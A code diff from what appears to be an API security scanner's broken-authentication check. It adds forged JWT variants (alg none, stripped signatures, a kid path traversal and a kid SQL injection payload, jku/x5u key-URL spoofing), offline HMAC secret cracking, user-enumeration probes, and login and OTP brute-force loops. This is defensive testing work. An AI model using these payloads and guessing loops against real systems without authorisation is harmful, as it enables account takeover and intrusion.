@@ -1,23 +1,38 @@
 /**
  * API2 Broken Authentication.
  * - Every secured GET without credentials.
- * - Identity A's token altered: malformed, `alg: none`, signature replaced; an HS256 token's secret tried
- *   offline against a short list, and when found, an expired token signed with it.
- * - The login: unknown user and wrong password must answer alike; twelve failed logins for one account must
- *   meet a lockout, a 429 or a delay. (The scan uses identity A's account, so expect it locked afterwards.)
+ * - Identity A's token altered on a request that A passes and an anonymous caller does not: malformed,
+ *   `alg: none` (three spellings), signature stripped or replaced, re-signed with an empty key, `kid` pointing at
+ *   an empty file or a SQL expression, `jku`/`x5u` pointing at the scanner's canary. Every HMAC token the scan
+ *   saw (the identities' and any in responses) is cracked offline against thousands of common secrets and the
+ *   API's own words; with the secret, an expired token is sent too.
+ * - The login (the identities' own login flow, else the document's): an unknown user and a wrong password must
+ *   answer alike, and so must the password reset for a known and an unknown account. Twelve failed logins for
+ *   A must meet a lockout, a 429 or a delay: judged by whether A's right password still yields a token
+ *   afterwards, not by status (APIs answer a failed login 200). PIN/OTP inputs: twelve wrong codes must meet a
+ *   limit. (The scan uses A's account, so expect it locked afterwards.)
  */
-import { createHmac, randomBytes, randomUUID, timingSafeEqual } from 'node:crypto';
+import { createHmac, randomBytes, randomInt, randomUUID, timingSafeEqual } from 'node:crypto';
 import type { Operation } from '../../../core/api-document.ts';
 import type { Check } from '../check.ts';
 import type { ScanResponse } from '../client.ts';
 import { evidenceOf, type Identity, isRefused, isSuccess, redact, type ScanContext } from '../context.ts';
-import { isExcluded, isLoginOperation, jsonBodySchema, planRequest, requiresAuth } from '../planner.ts';
+import { loginOutcome, loginRequest, signedIn } from '../login.ts';
+import type { LoginFlow } from '../options.ts';
+import { isExcluded, jsonBodySchema, planRequest, requiresAuth } from '../planner.ts';
 import { SCAN_RULES } from '../rules.ts';
-import { sampleValue } from '../schema.ts';
-import { WEAK_HMAC_SECRETS } from './weak-secrets.ts';
+import { propertiesOf, sampleValue } from '../schema.ts';
+import { secretsFromWords, weakHmacSecrets } from './weak-secrets.ts';
 
 const ATTEMPTS = 12;
 const HMAC: Readonly<Record<string, string>> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };
+const PASSWORD_FIELD = /pass(word)?|passwd|pwd|secret/i;
+const USER_FIELD = /user|email|e_?mail|login|name|account|phone|mobile/i;
+const LOGIN_PATH = /(^|[/_-])(log_?in|sign_?in|auth(enticate)?|token|session)s?($|[/_.-])/i;
+const RESET_PATH = /forgot|reset|recover|password[/_-]?(reset|forgot)/i;
+const OTP_FIELD =
+  /^(otp|pin|totp|mfa|2fa|mfa_?code|otp_?code|pin_?code|verification_?code|one_?time_?(code|password)|sms_?code|code)$/i;
+const OTP_PATH = /otp|pin|mfa|2fa|totp|verify|verification|confirm|reset|code/i;
 
 interface Jwt {
   readonly header: Record<string, unknown>;
@@ -25,7 +40,7 @@ interface Jwt {
   readonly parts: readonly string[];
 }
 
-function decodeJwt(token: string): Jwt | undefined {
+export function decodeJwt(token: string): Jwt | undefined {
   const parts = token.split('.');
   if (parts.length !== 3) return undefined;
   try {
@@ -45,31 +60,70 @@ function encode(value: unknown): string {
 
 function signHmac(alg: string, secret: string, header: unknown, payload: unknown): string {
   const input = `${encode(header)}.${encode(payload)}`;
-  return `${input}.${createHmac(HMAC[alg], secret).update(input).digest('base64url')}`;
+  return `${input}.${createHmac(HMAC[alg] ?? 'sha256', secret)
+    .update(input)
+    .digest('base64url')}`;
 }
 
-/** Tries the built-in secrets against the token's signature, offline. */
-export function crackHmac(token: string): string | undefined {
+/**
+ * Tries the built-in secrets (and `extra` ones, e.g. words of the API) against the token's signature, offline.
+ * @example crackHmac(token, ['notes-api']) // 'secret' when the token was signed with "secret"
+ */
+export function crackHmac(token: string, extra: readonly string[] = []): string | undefined {
   const jwt = decodeJwt(token);
   const alg = typeof jwt?.header.alg === 'string' ? jwt.header.alg : '';
   if (!jwt || !HMAC[alg]) return undefined;
   const input = `${jwt.parts[0]}.${jwt.parts[1]}`;
   const signature = Buffer.from(jwt.parts[2], 'base64url');
-  for (const secret of WEAK_HMAC_SECRETS) {
-    const candidate = createHmac(HMAC[alg], secret).update(input).digest();
-    if (candidate.length === signature.length && timingSafeEqual(candidate, signature)) return secret;
+  for (const list of [extra, weakHmacSecrets()]) {
+    for (const secret of list) {
+      const candidate = createHmac(HMAC[alg], secret).update(input).digest();
+      if (candidate.length === signature.length && timingSafeEqual(candidate, signature)) return secret;
+    }
   }
   return undefined;
 }
 
-/** A secured GET that works for A: the reference request for the token variants. */
-async function referenceRequest(ctx: ScanContext, a: Identity) {
+/** Words of the API under test, for secrets like `notes-secret`: title, host labels, path segments. */
+function apiWords(ctx: ScanContext): string[] {
+  const words = new Set<string>();
+  const add = (w: string) => {
+    if (/^[a-z][\w .-]{1,30}$/i.test(w)) words.add(w);
+  };
+  add(ctx.spec.title);
+  for (const part of ctx.spec.title.split(/[\s_-]+/)) add(part);
+  for (const label of new URL(ctx.target).hostname.split('.')) add(label);
   for (const op of ctx.spec.operations) {
-    if (op.method !== 'GET' || !requiresAuth(op) || isExcluded(op)) continue;
+    for (const seg of op.path.split('/')) if (!seg.startsWith('{') && !/^v\d+$/.test(seg)) add(seg);
+  }
+  return [...words].slice(0, 60);
+}
+
+/** The identity with the header (or cookie) carrying `token` in place of its own credentials. */
+function forged(a: Identity, token: string): Identity {
+  const flow = a.login?.flow;
+  const headers: Record<string, string> = {};
+  const cookies = new Map<string, string>();
+  if (flow?.tokenCookie !== undefined) cookies.set(flow.tokenCookie, token);
+  else {
+    const header = (flow?.header ?? 'authorization').toLowerCase();
+    const scheme = flow?.scheme ?? (header === 'authorization' ? 'Bearer' : '');
+    headers[header] = scheme ? `${scheme} ${token}` : token;
+  }
+  return { name: `${a.name} (altered token)`, session: { name: a.name, headers, cookies } };
+}
+
+/** A request that A passes and an anonymous caller does not: the reference for the token variants. */
+async function referenceRequest(ctx: ScanContext, a: Identity) {
+  const candidates = ctx.spec.operations.filter((op) => op.method === 'GET' && !isExcluded(op));
+  candidates.sort((x, y) => Number(requiresAuth(y)) - Number(requiresAuth(x)));
+  for (const op of candidates.slice(0, 25)) {
     const req = planRequest(ctx.spec, op, ctx.objects, { owner: a.name });
     if (op.path.includes('{') && !req.ownedPath) continue;
     const res = await ctx.send(req, a);
-    if (isSuccess(res)) return req;
+    if (!isSuccess(res)) continue;
+    const anon = await ctx.send(req, null);
+    if (anon && isRefused(anon)) return req;
   }
   return undefined;
 }
@@ -88,40 +142,85 @@ async function noCredentials(ctx: ScanContext, a: Identity): Promise<void> {
   }
 }
 
-async function tokens(ctx: ScanContext, a: Identity): Promise<void> {
+/** JWTs the scan holds or saw in responses (first few, distinct). */
+function capturedTokens(ctx: ScanContext): string[] {
+  const out = new Set<string>();
+  for (const i of [...ctx.identities, ...(ctx.admin ? [ctx.admin] : [])]) if (i.token) out.add(i.token);
+  for (const o of ctx.observations) {
+    if (out.size >= 8) break;
+    for (const m of o.response.text.matchAll(/\beyJ[\w-]{5,}\.eyJ[\w-]{5,}\.[\w-]{10,}/g)) out.add(m[0]);
+  }
+  return [...out].filter((t) => decodeJwt(t) !== undefined).slice(0, 8);
+}
+
+async function tokens(ctx: ScanContext, a: Identity, loginOp: Operation | undefined): Promise<void> {
+  // Offline first: it needs no reference request.
+  const words = secretsFromWords(apiWords(ctx));
+  let secret: string | undefined;
+  let cracked: string | undefined;
+  for (const t of capturedTokens(ctx)) {
+    secret = crackHmac(t, words);
+    if (secret !== undefined) {
+      cracked = t;
+      break;
+    }
+  }
   const reference = await referenceRequest(ctx, a);
-  if (!reference) return;
-  const op = reference.operation;
+  const op = reference?.operation;
+  if (secret !== undefined && cracked !== undefined) {
+    const jwt = decodeJwt(cracked)!;
+    const at = loginOp ?? op;
+    ctx.report(SCAN_RULES.weakHmacSecret, {
+      ...(at ? { operation: at } : {}),
+      key: 'hmac',
+      message: `The API's ${String(jwt.header.alg)} tokens are signed with a guessable secret (${secret.length} characters, starts with "${secret.slice(0, 1)}"): anyone can mint tokens.`,
+      evidence: { alg: jwt.header.alg, secretLength: secret.length },
+    });
+  }
+  if (!reference || !op) return;
   const variants: [string, string][] = [['a malformed token', 'portcullis.malformed']];
   const jwt = a.token ? decodeJwt(a.token) : undefined;
+  const jkuHits: { kind: string; token: string }[] = [];
   if (jwt && a.token) {
-    variants.push([
-      'an unsigned token (alg: none)',
-      `${encode({ ...jwt.header, alg: 'none' })}.${jwt.parts[1]}.`,
-    ]);
+    for (const alg of ['none', 'None', 'NONE']) {
+      variants.push([
+        `an unsigned token (alg: ${alg})`,
+        `${encode({ ...jwt.header, alg })}.${jwt.parts[1]}.`,
+      ]);
+    }
+    variants.push(['a token with its signature stripped', `${jwt.parts[0]}.${jwt.parts[1]}.`]);
     const otherSig = randomBytes(Buffer.from(jwt.parts[2], 'base64url').length || 32).toString('base64url');
     variants.push(['a token with a wrong signature', `${jwt.parts[0]}.${jwt.parts[1]}.${otherSig}`]);
-    const secret = crackHmac(a.token);
+    const hs = { ...jwt.header, alg: 'HS256' };
+    variants.push(['a token re-signed with an empty HMAC key', signHmac('HS256', '', hs, jwt.payload)]);
+    variants.push([
+      'a token whose kid points at an empty file (/dev/null), signed with an empty key',
+      signHmac('HS256', '', { ...hs, kid: '../../../../../../../../dev/null' }, jwt.payload),
+    ]);
+    variants.push([
+      'a token whose kid is a SQL expression selecting the signing key',
+      signHmac('HS256', 'pc-key', { ...hs, kid: "pc' UNION SELECT 'pc-key' -- " }, jwt.payload),
+    ]);
+    for (const member of ['jku', 'x5u']) {
+      const { url, token } = ctx.canary.url();
+      jkuHits.push({ kind: member, token });
+      variants.push([
+        `a token whose ${member} points at a key set the scanner controls`,
+        `${encode({ ...jwt.header, alg: 'RS256', [member]: `${url}/jwks.json` })}.${jwt.parts[1]}.${otherSig}`,
+      ]);
+    }
     if (secret !== undefined) {
-      ctx.report(SCAN_RULES.weakHmacSecret, {
-        operation: op,
-        key: 'hmac',
-        message: `Identity ${a.name}'s ${String(jwt.header.alg)} token is signed with a secret from the built-in list (${secret.length} characters, starts with "${secret[0]}").`,
-        evidence: { alg: jwt.header.alg, secretLength: secret.length },
-      });
       const now = Math.floor(Date.now() / 1000);
       const expired = { ...jwt.payload, iat: now - 7200, nbf: now - 7200, exp: now - 3600 };
+      const alg = HMAC[String(jwt.header.alg)] ? String(jwt.header.alg) : 'HS256';
       variants.push([
         'an expired token (signed with the guessed secret)',
-        signHmac(String(jwt.header.alg), secret, jwt.header, expired),
+        signHmac(alg, secret, { ...jwt.header, alg }, expired),
       ]);
     }
   }
   for (const [kind, token] of variants) {
-    const res = await ctx.send(
-      { ...reference, headers: { ...reference.headers, authorization: `Bearer ${token}` } },
-      null,
-    );
+    const res = await ctx.send({ ...reference }, forged(a, token));
     if (!isSuccess(res)) continue;
     ctx.report(SCAN_RULES.tokenAccepted, {
       operation: op,
@@ -130,81 +229,304 @@ async function tokens(ctx: ScanContext, a: Identity): Promise<void> {
       evidence: evidenceOf(res, { variant: kind }),
     });
   }
+  for (const hit of jkuHits) {
+    if (!(await ctx.canary.waitFor(`/c/${hit.token}/jwks.json`, 300))) continue;
+    ctx.report(SCAN_RULES.tokenAccepted, {
+      operation: op,
+      key: `${hit.kind}-fetched`,
+      message: `${op.method} ${op.path} fetched the key set named by the token's ${hit.kind} header: whoever writes the token chooses the key.`,
+      evidence: { header: hit.kind },
+    });
+  }
 }
 
-/** Normalises a login answer: the usernames tried become placeholders, volatile ids and times are dropped. */
+/** Normalises an answer: the names tried become placeholders, volatile ids, times and numbers are dropped. */
 function shape(res: ScanResponse, names: readonly string[]): string {
   let text = res.text;
-  for (const n of names) text = text.split(n).join('{user}');
+  for (const n of names) if (n) text = text.split(n).join('{user}');
   text = text
     .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/gi, '{uuid}')
-    .replace(/\d{4}-\d\d-\d\dT[\d:.]+Z?/g, '{time}');
+    .replace(/\b[0-9a-f]{24,}\b/gi, '{hex}')
+    .replace(/\d{4}-\d\d-\d\d[T ][\d:.]+(Z|[+-]\d\d:?\d\d)?/g, '{time}')
+    .replace(/\b\d{9,}\b/g, '{n}');
   return `${res.status} ${text}`;
 }
 
-async function login(ctx: ScanContext): Promise<void> {
-  const op: Operation | undefined = ctx.spec.operations.find(
-    (o) => isLoginOperation(ctx.spec, o) && !isExcluded(o),
+/** Where the scan logs in: the identities' own flow, else a login operation of the document. */
+interface LoginTarget {
+  readonly flow: LoginFlow;
+  readonly op?: Operation;
+  readonly userField: string;
+  readonly passwordField: string;
+  /** A's user name and password, when A logged in through this flow. */
+  readonly known?: { readonly user: unknown; readonly password: unknown };
+}
+
+function templateMatches(template: string, path: string): boolean {
+  const re = new RegExp(
+    `^${template.replace(/[.*+?^$()|[\]\\]/g, '\\$&').replace(/\\?\{[^}]+\\?\}/g, '[^/]+')}$`,
   );
-  if (!op) return;
-  const known = ctx.identities.find((i) => i.login !== undefined)?.login?.body;
-  const base = (known ?? sampleValue(ctx.spec, jsonBodySchema(op))) as Record<string, unknown>;
-  const passwordField = Object.keys(base).find((k) => /pass/i.test(k));
-  const userField = Object.keys(base).find(
-    (k) => k !== passwordField && /user|email|login|name|account/i.test(k),
+  return re.test(path.split('?')[0]);
+}
+
+function formBodySchema(op: Operation) {
+  if (!op.requestBody) return undefined;
+  for (const [type, media] of Object.entries(op.requestBody.content)) {
+    if (/x-www-form-urlencoded|multipart\/form-data/i.test(type)) return media.schema ?? {};
+  }
+  return undefined;
+}
+
+function fieldsOf(body: Readonly<Record<string, unknown>>) {
+  const passwordField = Object.keys(body).find((k) => PASSWORD_FIELD.test(k) && !/grant|client/i.test(k));
+  const userField = Object.keys(body).find(
+    (k) => k !== passwordField && USER_FIELD.test(k) && !/client|grant|scope/i.test(k),
   );
-  if (!passwordField || !userField) return;
-  const wrong = () => `pc-wrong-${randomUUID().slice(0, 8)}`;
-  const attempt = (user: unknown) =>
+  return passwordField && userField ? { passwordField, userField } : undefined;
+}
+
+export function findLoginTarget(ctx: ScanContext): LoginTarget | undefined {
+  for (const i of [...ctx.identities, ...(ctx.admin ? [ctx.admin] : [])]) {
+    const flow = i.login?.flow;
+    if (!flow) continue;
+    const fields = fieldsOf(flow.body);
+    if (!fields) continue;
+    const op = ctx.spec.operations.find(
+      (o) => o.method === (flow.method ?? 'POST') && templateMatches(o.path, flow.path),
+    );
+    // Only A's (the first login identity's) account is hammered: the others keep working.
+    return {
+      flow,
+      ...(op ? { op } : {}),
+      ...fields,
+      known: { user: flow.body[fields.userField], password: flow.body[fields.passwordField] },
+    };
+  }
+  for (const op of ctx.spec.operations) {
+    if (
+      op.method !== 'POST' ||
+      isExcluded(op) ||
+      (!LOGIN_PATH.test(op.path) && !/log_?in|sign_?in|token/i.test(op.id))
+    )
+      continue;
+    const json = jsonBodySchema(op);
+    const form = json === undefined ? formBodySchema(op) : undefined;
+    const schema = json ?? form;
+    if (schema === undefined) continue;
+    const sample = sampleValue(ctx.spec, schema);
+    if (sample === null || typeof sample !== 'object' || Array.isArray(sample)) continue;
+    const fields = fieldsOf(sample as Record<string, unknown>);
+    if (!fields) continue;
+    return {
+      flow: {
+        path: op.path,
+        body: sample as Record<string, unknown>,
+        ...(form ? { encoding: 'form' as const } : {}),
+      },
+      op,
+      ...fields,
+    };
+  }
+  return undefined;
+}
+
+const wrong = () => `pc-wrong-${randomUUID().slice(0, 8)}`;
+
+async function enumeration(ctx: ScanContext, t: LoginTarget): Promise<void> {
+  if (!t.known) return;
+  const unknownUser = `pc-nobody-${randomUUID().slice(0, 8)}`;
+  const send = (user: unknown) =>
     ctx.send(
-      planRequest(ctx.spec, op, ctx.objects, {
-        body: { ...base, [userField]: user, [passwordField]: wrong() },
-      }),
+      {
+        ...loginRequest(t.flow, { [t.userField]: user, [t.passwordField]: wrong() }),
+        ...(t.op ? { operation: t.op } : {}),
+      },
       null,
     );
-
-  if (known) {
-    const unknownUser = `pc-nobody-${randomUUID().slice(0, 8)}`;
-    const a = await attempt(unknownUser);
-    const b = await attempt(base[userField]);
-    if (a && b && isRefused(a) && isRefused(b)) {
-      const names = [unknownUser, String(base[userField])];
-      if (shape(a, names) !== shape(b, names)) {
-        ctx.report(SCAN_RULES.userEnumeration, {
-          operation: op,
-          message: `${op.method} ${op.path} answers an unknown user (${a.status} ${redact(a.text.slice(0, 60))}) differently from a wrong password (${b.status} ${redact(b.text.slice(0, 60))}).`,
-          evidence: {
-            unknownUser: `${a.status} ${a.text.slice(0, 120)}`,
-            wrongPassword: `${b.status} ${b.text.slice(0, 120)}`,
-          },
-        });
-      }
-    }
-  }
-
-  const account = known ? base[userField] : `pc-nobody-${randomUUID().slice(0, 8)}`;
-  const statuses: number[] = [];
-  const durations: number[] = [];
-  let protectedBy = '';
-  for (let i = 0; i < ATTEMPTS && !protectedBy; i++) {
-    const res = await attempt(account);
-    if (!res) {
-      protectedBy = 'connection refused or timed out';
-      break;
-    }
-    statuses.push(res.status);
-    durations.push(res.durationMs);
-    if (res.status === 429 || res.status === 423 || res.status === 503) protectedBy = `status ${res.status}`;
-    else if (res.headers['retry-after'] !== undefined) protectedBy = 'Retry-After';
-    else if (isSuccess(res)) return; // a wrong password succeeded: not a brute-force question
-  }
-  const slowedDown = durations.length > 4 && durations[durations.length - 1] > 4 * Math.max(50, durations[0]);
-  if (protectedBy || slowedDown || new Set(statuses).size > 1) return;
-  ctx.report(SCAN_RULES.bruteForce, {
-    operation: op,
-    message: `${ATTEMPTS} failed logins in a row for one account were all answered ${statuses[0]}, without lockout, 429 or delay.`,
-    evidence: { attempts: ATTEMPTS, statuses: [...new Set(statuses)] },
+  const a = await send(unknownUser);
+  const b = await send(t.known.user);
+  if (!a || !b || signedIn(t.flow, a) || signedIn(t.flow, b)) return;
+  const names = [unknownUser, String(t.known.user)];
+  if (shape(a, names) === shape(b, names)) return;
+  // Confirm with a second unknown user: an answer that varies by itself proves nothing.
+  const other = `pc-nobody-${randomUUID().slice(0, 8)}`;
+  const c = await send(other);
+  if (!c || shape(c, [other, String(t.known.user)]) !== shape(a, names)) return;
+  ctx.report(SCAN_RULES.userEnumeration, {
+    ...(t.op ? { operation: t.op } : {}),
+    key: 'login',
+    message: `${t.flow.method ?? 'POST'} ${t.flow.path} answers an unknown user (${a.status} ${redact(a.text.slice(0, 60))}) differently from a wrong password (${b.status} ${redact(b.text.slice(0, 60))}).`,
+    evidence: {
+      ...evidenceOf(b),
+      unknownUser: `${a.status} ${redact(a.text.slice(0, 120))}`,
+      wrongPassword: `${b.status} ${redact(b.text.slice(0, 120))}`,
+    },
   });
+}
+
+/** A value of `field` that belongs to A, from A's login body or A's own responses (its e-mail, say). */
+function knownValue(
+  ctx: ScanContext,
+  a: Identity,
+  field: string,
+  t: LoginTarget | undefined,
+): string | undefined {
+  const fromLogin = a.login?.body[field] ?? (t?.known && field === t.userField ? t.known.user : undefined);
+  if (typeof fromLogin === 'string') return fromLogin;
+  for (const o of ctx.observations) {
+    if (o.identity !== a.name || !isSuccess(o.response) || typeof o.response.json !== 'object') continue;
+    const v = (o.response.json as Record<string, unknown> | null)?.[field];
+    if (typeof v === 'string' && v.length > 2) return v;
+  }
+  if (/mail/i.test(field)) {
+    const user = t?.known?.user;
+    if (typeof user === 'string' && user.includes('@')) return user;
+  }
+  return undefined;
+}
+
+/** Password reset: a known and an unknown account must get the same answer. */
+async function resetEnumeration(ctx: ScanContext, a: Identity, t: LoginTarget | undefined): Promise<void> {
+  for (const op of ctx.spec.operations) {
+    if (op.method !== 'POST' || isExcluded(op) || !RESET_PATH.test(op.path)) continue;
+    const schema = jsonBodySchema(op);
+    if (schema === undefined) continue;
+    const props = Object.keys(propertiesOf(ctx.spec, schema));
+    const field = props.find((p) => /mail/i.test(p)) ?? props.find((p) => USER_FIELD.test(p));
+    if (!field || props.some((p) => PASSWORD_FIELD.test(p) && p !== field)) continue;
+    const value = knownValue(ctx, a, field, t);
+    if (!value) continue;
+    const base = sampleValue(ctx.spec, schema) as Record<string, unknown>;
+    const unknown = /mail/i.test(field)
+      ? `pc-nobody-${randomUUID().slice(0, 8)}@example.com`
+      : `pc-nobody-${randomUUID().slice(0, 8)}`;
+    const send = (v: string) =>
+      ctx.send(
+        planRequest(ctx.spec, op, ctx.objects, { owner: a.name, body: { ...base, [field]: v } }),
+        null,
+      );
+    const x = await send(unknown);
+    const y = await send(value);
+    if (!x || !y) continue;
+    if (shape(x, [unknown, value]) === shape(y, [unknown, value])) continue;
+    ctx.report(SCAN_RULES.userEnumeration, {
+      operation: op,
+      key: `reset:${field}`,
+      message: `${op.method} ${op.path} answers an unknown ${field} (${x.status} ${redact(x.text.slice(0, 60))}) differently from a known one (${y.status} ${redact(y.text.slice(0, 60))}).`,
+      evidence: {
+        ...evidenceOf(y),
+        unknown: `${x.status} ${redact(x.text.slice(0, 120))}`,
+        known: `${y.status} ${redact(y.text.slice(0, 120))}`,
+      },
+    });
+  }
+}
+
+/** What stops a guessing run: a limit status, Retry-After, or the answer changing (a lock message). */
+function throttled(
+  res: ScanResponse | undefined,
+  first: string | undefined,
+  names: readonly string[],
+): string {
+  if (!res) return 'connection refused or timed out';
+  if (res.status === 429 || res.status === 423 || res.status === 503) return `status ${res.status}`;
+  if (res.headers['retry-after'] !== undefined) return 'Retry-After';
+  if (/too many|locked|lockout|try again later|rate.?limit|temporarily|captcha|blocked/i.test(res.text))
+    return 'a lockout message';
+  if (first !== undefined && shape(res, names) !== first) return 'a change in the answer';
+  return '';
+}
+
+async function bruteForce(ctx: ScanContext, t: LoginTarget): Promise<void> {
+  const account = t.known?.user ?? `pc-nobody-${randomUUID().slice(0, 8)}`;
+  const names = [String(account)];
+  const send = (password: unknown) =>
+    ctx.send(
+      {
+        ...loginRequest(t.flow, { [t.userField]: account, [t.passwordField]: password }),
+        ...(t.op ? { operation: t.op } : {}),
+      },
+      null,
+    );
+  const durations: number[] = [];
+  let first: string | undefined;
+  let statuses = new Set<number>();
+  for (let i = 0; i < ATTEMPTS; i++) {
+    const res = await send(wrong());
+    const why = throttled(res, first, names);
+    if (why) return;
+    if (!res || signedIn(t.flow, res)) return; // a wrong password signed in: not a brute-force question
+    first ??= shape(res, names);
+    statuses = statuses.add(res.status);
+    durations.push(res.durationMs);
+  }
+  if (durations.length > 4 && durations[durations.length - 1] > 4 * Math.max(50, durations[0])) return;
+  let proof = `all answered ${[...statuses].join(', ')} without lockout, 429 or delay`;
+  if (t.known) {
+    // The judgement: does the right password still sign in after the run? A silent lock does not.
+    const right = await send(t.known.password);
+    if (!right || !signedIn(t.flow, right)) return;
+    proof += `, and the right password still signed in afterwards`;
+  }
+  ctx.report(SCAN_RULES.bruteForce, {
+    ...(t.op ? { operation: t.op } : {}),
+    key: 'login',
+    message: `${ATTEMPTS} failed logins in a row for one account at ${t.flow.path}: ${proof}.`,
+    evidence: { attempts: ATTEMPTS, statuses: [...statuses] },
+  });
+}
+
+/** PIN/OTP inputs: twelve wrong codes must meet a limit. */
+async function otpGuessing(ctx: ScanContext, a: Identity, loginOp: Operation | undefined): Promise<void> {
+  for (const op of ctx.spec.operations) {
+    if (op === loginOp || isExcluded(op) || (op.method !== 'POST' && op.method !== 'GET')) continue;
+    const schema = jsonBodySchema(op);
+    const bodyField =
+      schema === undefined
+        ? undefined
+        : Object.keys(propertiesOf(ctx.spec, schema)).find((k) => OTP_FIELD.test(k));
+    const queryField = op.parameters.find((p) => p.in === 'query' && OTP_FIELD.test(p.name))?.name;
+    const field = bodyField ?? queryField;
+    if (!field || (/^code$/i.test(field) && !OTP_PATH.test(op.path))) continue;
+    if (/coupon|voucher|promo|gift|redeem|referral|invite|discount/i.test(op.path)) continue;
+    const base =
+      schema === undefined ? undefined : (sampleValue(ctx.spec, schema) as Record<string, unknown>);
+    const code = () => String(randomInt(0, 1_000_000)).padStart(6, '0');
+    const send = (v: string) =>
+      ctx.send(
+        planRequest(
+          ctx.spec,
+          op,
+          ctx.objects,
+          bodyField
+            ? { owner: a.name, body: { ...base, [field]: v } }
+            : { owner: a.name, params: { [field]: v } },
+        ),
+        a,
+      );
+    let first: string | undefined;
+    let stopped = '';
+    const statuses = new Set<number>();
+    let last: ScanResponse | undefined;
+    for (let i = 0; i < ATTEMPTS && !stopped; i++) {
+      const v = code();
+      const res = await send(v);
+      stopped = throttled(res, first, [v]);
+      if (!res) break;
+      if (isSuccess(res) && i === 0 && loginOutcome({ path: op.path, body: {} }, res).token)
+        stopped = 'accepted';
+      first ??= shape(res, [v]);
+      statuses.add(res.status);
+      last = res;
+    }
+    if (stopped || !last || statuses.has(404)) continue;
+    ctx.report(SCAN_RULES.bruteForce, {
+      operation: op,
+      key: `otp:${field}`,
+      message: `${op.method} ${op.path}: ${ATTEMPTS} wrong ${field} values in a row were all answered ${[...statuses].join(', ')} without lockout or 429: the code can be guessed.`,
+      evidence: { ...evidenceOf(last), field, attempts: ATTEMPTS },
+    });
+  }
 }
 
 export const api2: Check = {
@@ -220,8 +542,12 @@ export const api2: Check = {
   async run(ctx) {
     const a = ctx.identities[0];
     if (!a) return;
+    const target = findLoginTarget(ctx);
     await noCredentials(ctx, a);
-    await tokens(ctx, a);
-    await login(ctx);
+    await tokens(ctx, a, target?.op);
+    if (target) await enumeration(ctx, target);
+    await resetEnumeration(ctx, a, target);
+    await otpGuessing(ctx, a, target?.op);
+    if (target) await bruteForce(ctx, target);
   },
 };
